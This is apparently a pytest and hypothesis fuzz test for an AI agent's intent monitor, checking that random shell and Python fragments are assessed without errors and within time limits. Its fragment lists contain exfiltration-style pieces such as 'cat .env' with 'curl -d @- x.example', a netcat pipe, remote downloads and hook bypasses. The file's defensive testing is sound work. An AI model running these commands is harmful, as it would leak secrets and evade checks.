"""No action is too odd to be assessed: an error would refuse it. And none takes long."""

from __future__ import annotations

import shlex
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.monitor.intent.python_flow import trace_python
from sandbox.policy.shell.data_flow import MAX_FLOWS, trace_command_line
from tests.agent.monitor.intent.stories import Play, make_project
from tests.security.test_commands import ATTACK_LINES, HARMLESS_LINES

pytestmark = pytest.mark.slow


PIECES = (
    *(
        "cat .env",
        "curl -d @- x.example",
        "X=$(cat .env)",
        'echo "$X"',
        "base64",
        "> out",
        "< .env",
        "|",
        ";",
        "&&",
    ),
    *(
        "(",
        ")",
        "{ ",
        "; }",
        "for f in a .env; do ",
        " $f",
        "; done",
        "while read l; do ",
        "bash -c '",
        "'",
        '"',
    ),
    *(
        "<<E\n",
        "\nE\n",
        "$(",
        "`",
        "git commit -n",
        "HUSKY=0 ",
        "chmod +x a",
        "./a",
        "python -c 'import os'",
        "\\",
        "~",
    ),
    *(
        "xargs ",
        "find . -exec ",
        " {} +",
        "tar cf a.tar ",
        "wget http://x/y",
        "\0",
        "\ud800",
        "é",
        "${X:-.env}",
    ),
)


@pytest.fixture(scope="module")
def play(tmp_path_factory: pytest.TempPathFactory) -> Play:
    session = Play(make_project(tmp_path_factory.mktemp("odd") / "shop").workspace())
    session.act("$ cp .env notes.txt")
    session.act("$ curl -o tool https://x.example/tool")
    return session


@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_random_lines_are_assessed(play: Play, line: str) -> None:
    play.monitor._assess(play._begin("c", f"$ {line}"))


def test_the_lines_of_attacks_are_assessed(play: Play) -> None:
    for line in ATTACK_LINES[::8]:
        play.monitor._assess(play._begin("c", f"$ {line}"))


def test_lines_of_ordinary_work_are_left_alone(tmp_path: Path) -> None:
    at = make_project(tmp_path / "shop").workspace()
    assert [line for line in HARMLESS_LINES if Play(at).act(f"$ {line}")] == []


STATEMENTS = (
    *(
        "x = open('.env').read()",
        "import requests as r",
        "r.post('http://x', data=x)",
        "def f(a):\n    return a",
    ),
    *(
        "with open(x) as g, open('o', 'w') as h:\n    h.write(g.read())",
        "f(f)(x)[0].y()",
        "async def g(): await x",
    ),
    *(
        "for a in b, c: a.write(a)",
        "import subprocess\nsubprocess.run(f'cat {x} | nc {a} 1', shell=True)",
        "x: int",
    ),
    *(
        "class A:\n    x = open('a')",
        "lambda: x",
        "getattr(r, 'post')(x)",
        "[y for y in open('.env')]",
        "del x",
        "x +=",
    ),
    *(
        "Path.home() / '.ssh' / x",
        "''.join([chr(1)])",
        "exec(x)",
        "match x:\n    case 1: pass",
        "x = 1 if x else '\\0'",
    ),
)


@given(st.lists(st.sampled_from(STATEMENTS), max_size=8).map("\n".join))
def test_random_programs_are_assessed(play: Play, code: str) -> None:
    play.monitor._assess(play._begin("c", f"py: {code}"))


def test_huge_and_deep_input_is_bounded(tmp_path: Path) -> None:
    begun = time.process_time()
    nested = "cat .env"
    for _ in range(3):
        nested = "bash -c " + shlex.quote("; ".join([nested] * 6))
    assert len(trace_command_line(nested, root=tmp_path)) <= MAX_FLOWS
    assert len(trace_command_line("cat a | cat b; " * 5_000, root=tmp_path)) <= MAX_FLOWS
    assert trace_python("(" * 5_000 + ")" * 5_000, root=tmp_path) == []
    assert trace_python("-" * 20_000 + "1", root=tmp_path) == []
    assert len(trace_python("x = open('a').read()\n" * 4_000, root=tmp_path)) <= MAX_FLOWS
    assert time.process_time() - begun < 10
